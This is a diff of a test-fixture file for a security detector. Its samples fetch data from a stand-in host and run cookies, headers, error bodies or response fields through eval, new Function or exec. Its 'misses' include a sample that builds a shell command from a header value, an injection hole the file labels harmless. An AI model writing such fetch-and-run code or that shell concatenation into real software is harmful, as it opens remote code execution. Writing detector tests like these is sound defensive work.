@@ -1,74 +1,120 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that run odd parts of an answer, and programs that read them. */
+/** Answers whose cookies, headers and errors are run, and answers whose parts are only read. */
 export const examples: Examples = {
   hits: [
     {
-      name: "a cookie in the answer that is run",
+      name: "a cookie in the answer",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const axios = require("axios");\n\naxios.get("https://api.example/check").then((answer) => new Function("require", answer.data.cookie)(require));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const axios = require("axios");
+axios.get("https://api.example/check").then((answer) => new Function(answer.data.cookie)());
+`,
       },
     },
     {
-      name: "a header that is evaluated",
+      name: "a header of the answer, in base64",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://api.example/check").then((answer) => eval(answer.headers.get("x-next")));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").then((answer) => {
+  const build = answer.headers.get("x-build");
+  eval(Buffer.from(build, "base64").toString());
+});
+`,
       },
     },
     {
-      name: "the text of an error that is evaluated",
+      name: "the text of an error that a server answers with",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const axios = require("axios");\n\naxios.get("https://api.example/check").catch((error) => eval(error.response.data));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const axios = require("axios");
+(async () => {
+  try {
+    await axios.get("https://api.example/check");
+  } catch (error) {
+    eval(error.response.data.message);
+  }
+})();
+`,
+      },
+    },
+    {
+      name: "an error that goes through the error handler of a server",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const express = require("express");
+const axios = require("axios");
+const app = express();
+app.get("/", async (request, response, next) => {
+  try {
+    await axios.get("https://api.example/check");
+  } catch (error) {
+    next(error);
+  }
+});
+app.use((error, request, response, next) => {
+  eval(error.response.data);
+});
+app.listen(3000);
+`,
+      },
+    },
+    {
+      name: "a header in Python",
+      files: {
+        "main.py": `import requests
+answer = requests.get("https://api.example/check")
+exec(answer.headers["X-Build"])
+`,
       },
     },
   ],
   misses: [
     {
-      name: "a cookie that is kept",
-      why: "It is stored, not run.",
+      name: "a header that names a file type",
+      why: "The header is compared and shown.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://api.example/check").then((answer) => console.log(answer.headers.get("set-cookie")));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").then((answer) => console.log(answer.headers.get("content-type")));
+`,
       },
     },
     {
-      name: "an error that is shown",
-      why: "It is shown, not run.",
+      name: "a file name from a header that a program opens",
+      why: "The program is named in the code; the header gives it a file.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const axios = require("axios");\n\naxios.get("https://api.example/check").catch((error) => console.error(error.response.data));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { exec } = require("child_process");
+fetch("https://api.example/check").then((answer) => exec("file /tmp/" + answer.headers.get("x-file-name")));
+`,
       },
     },
     {
-      name: "a file name in a header",
-      why: "It names a file and runs nothing.",
+      name: "an error message that is printed",
+      why: "The text is shown to a person.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("https://api.example/file").then((answer) => require("path").basename(answer.headers.get("content-disposition")));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").catch((error) => console.error(error.message));
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "the body of the same answer",
+      name: "the same in the body of the answer",
       caughtBy: "code/fetched-code-runs",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://api.example/check").then((answer) => answer.text()).then((text) => eval(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then(({ session }) => eval(session));
+`,
       },
     },
   ],
